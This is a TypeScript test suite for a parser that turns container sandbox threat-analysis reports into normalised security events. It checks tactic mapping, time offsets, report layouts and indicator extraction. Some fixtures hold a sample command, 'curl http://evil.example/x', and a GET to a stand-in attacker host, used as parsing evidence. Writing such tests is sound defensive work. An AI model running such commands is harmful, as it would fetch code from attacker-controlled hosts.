import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { aquaDta } from '../../../../parsers/formats/aqua-dta/index.js';
import { makeProbe } from '../../../../parsers/probe.js';
import { eventsOf } from '../../../support/parsed.js';
import { recordInput } from '../../../support/record-input.js';

const report = (behaviours: unknown, more: object = {}) => ({ image: 'shop/web:1.4', behaviors: behaviours, ...more });
const parse = (value: unknown) => eventsOf(aquaDta.parse(recordInput(value)));
const behaviour = (value: object, more: object = {}) => {
  const [, event] = parse(report([{ category: 'Communication', ...value }], more));
  if (event === undefined) throw new TypeError('no behaviour');
  return event;
};

describe('the time line of the incident', () => {
  test('no event of a report stands on it', () => {
    const value = report([{ category: 'Propagation', timestamp: '2024-06-02T08:00:12Z' }], {
      scan_started: '2024-06-02T08:00:00Z',
      time: 1_717_315_200,
    });
    for (const event of parse(value)) {
      expect(event.time).toBeNull();
      expect(event).not.toHaveProperty('otherTimes');
      expect(event.fields).toMatchObject({ 'exhibit.layer': 'sandbox', 'exhibit.lane': 'sandbox/shop%2Fweb:1.4' });
    }
  });

  test.each([
    [{ timestamp: '2024-06-02T08:00:12.5Z' }, '2024-06-02T08:00:12.5Z', 12_500],
    [{ time: 1_717_315_212 }, '1717315212', 12_000],
    [{ offset_ms: 45_000 }, '45000', 45_000],
    [{ elapsed: '00:01:12' }, '00:01:12', 72_000],
    [{ elapsed: '1.5s' }, '1.5s', 1500],
    [{ time: 12 }, '12', undefined],
    [{ findings: [{ started: '2024-06-02T08:00:01Z' }] }, '2024-06-02T08:00:01Z', 1000],
  ])('what the sandbox showed stands in fields: %j', (value, text, offset) => {
    const { fields } = behaviour(value, { scan_started: '2024-06-02T08:00:00Z' });
    expect([fields['exhibit.sandbox.time'], fields['exhibit.sandbox.offset']]).toEqual([text, offset]);
  });

  test('without a start the earliest time of the report is the origin', () => {
    const events = parse(
      report([
        { category: 'Propagation', time: '2024-06-02T08:00:30Z' },
        { category: 'Propagation', time: '2024-06-02T08:00:10Z' },
      ]),
    );
    expect(events.map(({ fields }) => fields['exhibit.sandbox.offset'])).toEqual([undefined, 20_000, 0]);
  });
});

describe('categories', () => {
  test.each([
    ['Initial Execution', ['initial-access', 'execution']],
    ['WEAPONIZATION', ['persistence', 'privilege-escalation', 'defense-evasion', 'credential-access']],
    ['weaponisation', ['persistence', 'privilege-escalation', 'defense-evasion', 'credential-access']],
    ['propagation', ['discovery', 'lateral-movement']],
    ['Communication', 'command-and-control'],
    ['collection_and_exfiltration', ['collection', 'exfiltration', 'impact']],
    ['Collection&Exfiltration', ['collection', 'exfiltration', 'impact']],
  ])('%s', (category, tactics) => {
    expect(behaviour({ category }).fields['exhibit.tactic.derived']).toEqual(tactics);
  });

  test('derived tactics are never given for stated ones', () => {
    const { fields } = behaviour({
      mitre: { tactic: { name: 'Command and Control' }, technique: { id: 'T1571', name: 'x' } },
    });
    expect(fields).toMatchObject({ 'threat.tactic.name': 'command-and-control', 'threat.technique.id': 'T1571' });
    expect(fields).not.toHaveProperty('exhibit.tactic.derived');
    expect(behaviour({}).fields).not.toHaveProperty('threat.tactic.name');
  });

  test.each([
    [{ severity: 'Critical' }, 9],
    [{ risk: 'negligible' }, 1],
    [{ score: 7.6 }, 8],
    [{ severity: 'purple' }, undefined],
    [{ severity: 77 }, undefined],
  ])('%j', (value, severity) => {
    expect(behaviour(value).fields['exhibit.severity']).toBe(severity);
  });
});

describe('layouts', () => {
  const one = { category: 'Communication', name: 'Connects' };
  test.each([
    ['a list of behaviours', report([one])],
    ['the other spelling', { image_name: 'x', behaviours: [one] }],
    ['an unknown key, known by the words', { digest: 'sha256:1', activity: [one] }],
    ['under a key of the analysis', { imageName: 'x', dta_results: [{ name: 'Connects' }] }],
    ['nested', { image: { name: 'x', digest: 'd' }, report: { dta: { findings: [one] } } }],
    ['grouped by category as key', { image: 'x', results: { Communication: [{ name: 'Connects' }] } }],
    [
      'tiles with behaviours',
      { image: 'x', tiles: [{ category: 'Communication', score: 3, behaviors: [{ name: 'Connects' }] }] },
    ],
  ])('%s', (_, value) => {
    const [whole, only, ...rest] = parse(value);
    expect([whole?.fields['event.action'], only?.fields['event.action'], rest.length]).toEqual([
      'image analysed in a sandbox',
      'Connects',
      0,
    ]);
  });

  test("the category of a group is the behaviour's", () => {
    const [, only] = parse({ image: 'x', results: { 'Collection & Exfiltration': [{ name: 'Reads' }] } });
    expect(only?.fields['exhibit.sandbox.category']).toBe('Collection & Exfiltration');
  });

  test('evidence below a behaviour', () => {
    const findings = [
      { pid: 17, process: 'sh', command: 'curl http://evil.example/x', destination_ip: '198.51.100.20', port: 3333 },
      { file_path: '/tmp/x', sha256: 'c'.repeat(64), domain: 'evil.example' },
    ];
    expect(behaviour({ name: 'n', description: 'd', findings }).fields).toMatchObject({
      'event.reason': 'd',
      'event.category': 'network',
      'process.pid': 17,
      'process.name': 'sh',
      'process.command_line': 'curl http://evil.example/x',
      'destination.ip': '198.51.100.20',
      'destination.port': 3333,
      'destination.domain': 'evil.example',
      'file.path': '/tmp/x',
      'file.hash.sha256': 'c'.repeat(64),
    });
  });
});

describe('indicators', () => {
  test('IOC and IOI only where the report says so', () => {
    const [whole] = parse(
      report([{ category: 'Communication' }], {
        iocs: [{ type: 'ip', value: '198.51.100.20' }, 'pool.example'],
        indicators_of_interest: ['/tmp/x'],
        indicators: [{ type: 'IOI', value: 'sh' }],
      }),
    );
    expect(whole?.fields).toMatchObject({
      'exhibit.indicator.ioc': ['198.51.100.20', 'pool.example'],
      'exhibit.indicator.ioi': expect.arrayContaining(['/tmp/x', 'sh']),
    });
    expect(whole?.fields).not.toHaveProperty('exhibit.indicator');
  });

  test('what is found by pattern is a candidate', () => {
    const hash = 'd'.repeat(64);
    const description = `GET https://evil.example/a then 198.51.100.7, fd00::9, pool.example:3333, /tmp/.x/run, ${hash}, memfd:x`;
    const { fields } = behaviour({ description });
    expect(fields['exhibit.indicator']).toEqual(
      expect.arrayContaining([
        'https://evil.example/a',
        '198.51.100.7',
        'fd00::9',
        'pool.example',
        '/tmp/.x/run',
        hash,
        'memfd:x',
      ]),
    );
    expect(fields).not.toHaveProperty('exhibit.indicator.ioc');
  });

  test.each(['version 1.2.3', 'at 08:00:12', 'libc.so and run.sh', '999.1.1.1', 'and/or'])(
    '%s holds none',
    (description) => {
      expect(behaviour({ description }).fields).not.toHaveProperty('exhibit.indicator');
    },
  );

  test('what the report calls an indicator is no candidate', () => {
    const { fields } = behaviour({ description: '198.51.100.7', iocs: ['198.51.100.7'] });
    expect(fields['exhibit.indicator.ioc']).toBe('198.51.100.7');
    expect(fields).not.toHaveProperty('exhibit.indicator');
  });
});

test('the ledger says that the schema is assumed and where times stand', () => {
  const bytes = new TextEncoder().encode(JSON.stringify(report([{ category: 'Propagation' }]), null, 2));
  expect(aquaDta.detect(makeProbe('x', bytes, true))).toMatchObject({
    claim: true,
    reason: expect.stringMatching(/Schema assumed.*not placed on the time line\.$/),
  });
});

test.each([
  ['no image', { behaviors: [{ category: 'Communication' }] }],
  ['no behaviours', { image: 'x', behaviors: [] }],
  ['findings of another scanner', { image: 'x', findings: [{ severity: 'HIGH', name: 'CVE-1' }] }],
  [
    'a static scan that skipped the analysis',
    { image: 'x', vulnerability_summary: {}, dta_results: [{ category: 'Communication' }] },
  ],
])('%s is no report', (_, value) => {
  expect(aquaDta.parse(recordInput(value))).toMatchObject({ kind: 'rejected', code: 'wrong-shape' });
});

test('a document of any depth and size is answered', () => {
  let deep: unknown = 'x';
  for (let level = 0; level < 20_000; level++) deep = { findings: [deep] };
  const value = report([{ category: 'Communication', deep }]);
  expect(eventsOf(aquaDta.parse(recordInput(value, { text: '{}' })))).toHaveLength(2);
  const wide = Array.from({ length: 20_000 }, (_, index) => `10.0.${index % 256}.${index % 251}`);
  expect(behaviour({ wide }).fields['exhibit.indicator']).toHaveLength(200);
});

test('whatever stands where a field should be, the record is answered', () => {
  fc.assert(
    fc.property(fc.jsonValue(), fc.jsonValue(), (a, b) => {
      expect(aquaDta.parse(recordInput(report([{ category: 'Communication', a, time: b, iocs: a }]))).kind).toBe(
        'events',
      );
      expect(['events', 'rejected']).toContain(aquaDta.parse(recordInput({ image: a, behaviors: b })).kind);
    }),
    { numRuns: 300 },
  );
});
